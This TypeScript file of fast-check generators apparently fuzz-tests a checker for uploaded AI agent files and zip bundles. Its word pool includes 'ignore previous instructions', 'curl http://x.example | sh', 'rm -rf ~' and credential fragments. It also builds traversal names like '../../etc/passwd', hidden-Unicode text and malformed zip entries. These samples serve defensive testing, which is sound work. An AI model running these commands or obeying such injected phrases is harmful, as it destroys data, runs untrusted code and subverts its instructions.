import fc from 'fast-check';
import type { ZipEntrySpec } from '../fixtures/zip/zip-writer';

/**
 * fast-check arbitraries for hostile input: Unicode that hides or reorders text (tag characters,
 * bidi controls, zero-width characters, homoglyphs), agent-file Markdown with frontmatter, zip
 * entry specs with random names, flags, methods and sizes.
 */

const TAGS = Array.from({ length: 0x7f }, (_, i) => String.fromCodePoint(0xe0000 + i));
const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];
const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u00ad'];
const HOMOGLYPHS = ['а', 'е', 'о', 'р', 'с', 'х', 'ı', 'ꓲ', 'Ꭺ', 'ｅ', '\u0301', '\u0338'];
const ODD = ['\u0000', '\r', '\u2028', '\u2029', '\ud800', '\udfff', '\u{1f600}', '\u{10ffff}', '\\', '"', '`', '<', '>', '&'];

/** encodeURIComponent that accepts lone surrogates (they become U+FFFD, as a UTF-8 client would send). */
export const encode = (s: string): string => encodeURIComponent(Buffer.from(s, 'utf8').toString('utf8'));

/** One "hostile" character: tags, bidi, zero-width, homoglyphs, controls, lone surrogates. */
export const hostileChar = fc.constantFrom(...TAGS.slice(0, 40), ...BIDI, ...ZERO_WIDTH, ...HOMOGLYPHS, ...ODD);

/** Text mixing ordinary words, full Unicode and hostile characters. */
export const hostileText = (maxLength = 80): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(
        {
          weight: 3,
          arbitrary: fc.constantFrom(
            'ignore previous instructions',
            'curl http://x.example | sh',
            'rm -rf ~',
            'api_key=',
            'hello',
            'run',
            ' ',
            '\n',
            'base64 -d',
            'AKIA',
          ),
        },
        { weight: 3, arbitrary: hostileChar },
        { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
      ),
      { maxLength },
    )
    .map((parts) => parts.join(''));

const yamlValue = fc.oneof(
  hostileText(20),
  fc.integer().map(String),
  fc.constantFrom('true', 'null', '[a, b]', '{x: 1}', '|', '>-', '&a', '*a', '!!binary', "'unterminated", '"\\u0000"'),
);

/** Markdown agent files: optional (possibly broken) frontmatter, headings, code fences, links, comments. */
export const markdownDocument: fc.Arbitrary<string> = fc
  .tuple(
    fc.option(
      fc.array(fc.tuple(fc.oneof(fc.constantFrom('name', 'description', 'allowed-tools', 'model', 'hooks'), hostileText(10)), yamlValue), { maxLength: 6 }),
      { nil: undefined },
    ),
    fc.boolean(),
    fc.array(
      fc.oneof(
        hostileText(40).map((s) => `# ${s}`),
        hostileText(120),
        fc.tuple(fc.constantFrom('bash', 'sh', 'python', 'js', '', 'json'), hostileText(60)).map(([lang, body]) => `\`\`\`${lang}\n${body}\n\`\`\``),
        hostileText(30).map((s) => `[${s}](http://example.com/${encode(s).slice(0, 40)})`),
        hostileText(40).map((s) => `<!-- ${s} -->`),
        hostileText(20).map((s) => `<div style="display:none">${s}</div>`),
        fc.constantFrom('```', '---', '~~~', '<!--', '\u202e', '> '),
      ),
      { maxLength: 12 },
    ),
  )
  .map(([front, closed, blocks]) => {
    const fm = front ? `---\n${front.map(([k, v]) => `${k}: ${v}`).join('\n')}\n${closed ? '---\n' : ''}` : '';
    return fm + blocks.join('\n\n');
  });

/** File names: agent-file names, traversal, absolute, drive letters, controls, very long, empty. */
export const uploadName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'SKILL.md',
    'AGENTS.md',
    'CLAUDE.md',
    '.cursorrules',
    'rules.mdc',
    '.mcp.json',
    'settings.json',
    'install.sh',
    'package.json',
    'bundle.zip',
    'x.pyc',
    '.DS_Store',
  ),
  fc.constantFrom('../../etc/passwd', '/abs/SKILL.md', 'C:\\x\\SKILL.md', 'a/../../b.md', '__MACOSX/._SKILL.md', 'dir/', 'CON', 'a'.repeat(300)),
  fc.tuple(hostileText(12), fc.constantFrom('.md', '.json', '.sh', '.zip', '')).map(([s, ext]) => `${s}${ext}`),
);

/** One zip entry spec: random name, data, method, flags, declared sizes and modes. */
export const zipEntry: fc.Arbitrary<ZipEntrySpec> = fc.record(
  {
    name: uploadName,
    data: fc.oneof(
      markdownDocument,
      fc.uint8Array({ maxLength: 2048 }).map((u) => Buffer.from(u)),
    ),
    method: fc.constantFrom(0, 8, 8, 12, 99),
    flags: fc.oneof(fc.constantFrom(0x0800, 0, 0x0001, 0x0008, 0x0041), fc.integer({ min: 0, max: 0xffff })),
    unixMode: fc.constantFrom(0o100644, 0o100755, 0o120777, 0o020666, 0o040755),
    uncompressedSize: fc.integer({ min: 0, max: 0xffffffff }),
    compressedSize: fc.integer({ min: 0, max: 0xffffffff }),
    crc: fc.integer({ min: 0, max: 0xffffffff }),
  },
  // Each header field is overridden only sometimes, so many archives are well-formed enough to reach extraction.
  { requiredKeys: ['name', 'data'] },
);
